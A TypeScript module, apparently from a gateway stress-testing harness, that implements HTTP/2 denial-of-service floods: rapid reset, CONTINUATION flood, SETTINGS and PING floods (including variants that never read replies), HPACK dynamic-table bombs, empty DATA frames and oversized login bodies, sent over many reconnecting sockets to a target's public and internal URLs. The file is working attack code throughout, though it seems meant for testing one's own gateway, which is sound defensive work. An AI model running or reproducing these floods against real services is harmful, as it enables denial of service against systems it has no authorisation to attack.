// HTTP/2 floods of resets, settings, pings, headers and data.

import * as h2 from "../frames.ts";
import { type AttackPlan, forEachIndex, openSocket, writeAll } from "./attack.ts";
import { framesOf, get, LOGIN, LOGIN_BODY } from "./requests.ts";

const LANES = 8;
const MOST_REFUSED = 20;
const STUCK_MS = 2_000;

/** A flood of units, which are streams or frames. */
interface Flood {
  /** Units at full scale. */
  readonly count: number;
  /** Units in one write. */
  readonly size: number;
  /** Bytes before the units of a connection. */
  readonly opening?: Buffer;
  /** The bytes of a connection's unit. */
  readonly unit: (index: number) => Buffer;
  /** Whether it reads what the gateway sends; true when absent. */
  readonly reads?: boolean;
}

/** Sends `count` units over a few connections, at both listeners in turn. Reconnects after the gateway ends a connection. */
function flood({ count: fullCount, size, unit, opening = Buffer.alloc(0), reads = true }: Flood): AttackPlan {
  return {
    count: fullCount,
    async run(target, count, findings) {
      let sent = 0;
      await forEachIndex(LANES, LANES, async (lane) => {
        const url = lane % 2 === 0 ? target.publicUrl : target.internalUrl;
        for (let refused = 0; sent < count && refused < MOST_REFUSED; ) {
          const socket = await openSocket(url, lane);
          refused = socket === undefined ? refused + 1 : 0;
          if (socket === undefined) continue;
          if (reads) socket.resume();
          else socket.pause();
          await writeAll(socket, Buffer.concat([h2.PREFACE, h2.settings(), opening]));
          for (let units = 0; sent < count && !socket.destroyed; units += size) {
            sent += size;
            // The gateway may read no more.
            const timer = setTimeout(() => socket.destroy(), STUCK_MS);
            await writeAll(socket, Buffer.concat(Array.from({ length: size }, (_, index) => unit(units + index))));
            clearTimeout(timer);
          }
          socket.destroy();
        }
      });
      if (sent < count) findings.add(`connections were refused after ${sent}`);
    },
  };
}

const PAGE = 16 * 1024;
const streamOf = (unit: number): number => 2 * unit + 1;

/** A literal with incremental indexing (RFC 7541, section 6.2.1), name and value shorter than 127 bytes each. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0x40, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

/** `:method: GET`, `:scheme: http`, `:path: /` of the static table, then a field that enters the dynamic one. */
const ENTRY = Buffer.concat([Buffer.of(0x82, 0x86, 0x84), indexed("x".repeat(100), "y".repeat(120))]);
/** The newest entry of the dynamic table: a byte that stands for 220. */
const NEWEST = 0xbe;

function bomb(unit: number): Buffer {
  const block = Buffer.concat([unit === 0 ? ENTRY : ENTRY.subarray(0, 3), Buffer.alloc(PAGE - 400, NEWEST)]);
  return h2.frame(h2.HEADERS, h2.END_STREAM | h2.END_HEADERS, streamOf(unit), block);
}

function resetAtOnce(unit: number): Buffer {
  const stream = streamOf(unit);
  return Buffer.concat([framesOf(stream, unit % 2 === 0 ? LOGIN : get("/openapi.json")), h2.resetStream(stream)]);
}

/** More bytes than a login may have, within the flow-control window. */
function pageOf(unit: number): Buffer {
  const stream = streamOf(unit);
  return Buffer.concat([
    h2.openStream(stream, LOGIN.headers, false),
    h2.data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false),
  ]);
}

/** By attack; the count is of streams or frames. */
export const FLOODS: Readonly<Record<string, AttackPlan>> = {
  "rapid-reset": flood({ count: 100_000, size: 100, unit: resetAtOnce }),
  "continuation-flood": flood({
    count: 100_000,
    size: 50,
    opening: h2.openStreamInParts(1, get("/auth/time").headers)[0],
    unit: (index) => h2.frame(h2.CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
  }),
  "settings-flood": flood({ count: 200_000, size: 500, unit: () => h2.settings(65_535) }),
  "settings-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: () => h2.settings(1) }),
  "ping-flood": flood({ count: 200_000, size: 500, unit: h2.ping }),
  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: h2.ping }),
  "hpack-bombs": flood({ count: 10_000, size: 10, unit: bomb }),
  "empty-data": flood({
    count: 200_000,
    size: 500,
    opening: h2.openStream(1, LOGIN.headers, false),
    unit: () => h2.data(1, Buffer.alloc(0), false),
  }),
  "data-flood": flood({ count: 20_000, size: 4, unit: pageOf }),
};
